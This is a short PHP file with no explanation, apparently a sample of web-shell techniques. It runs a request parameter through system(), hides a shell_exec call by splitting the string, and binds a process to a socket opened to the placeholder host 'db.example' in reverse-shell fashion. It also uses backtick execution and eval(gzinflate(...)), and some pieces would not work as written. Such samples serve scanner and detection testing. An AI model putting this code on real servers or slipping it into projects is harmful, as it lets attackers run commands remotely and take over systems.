<?php $c = base64_decode('bHMgLVI='); system($c . ' ' . $_GET['x']); $f = 'sh' . 'ell_exec'; echo $f("git status");
$s = fsockopen("db.example", 443); proc_open("ls -R", [0 => $s, 1 => $s], $p); `uptime`; eval(gzinflate($c)); ?>
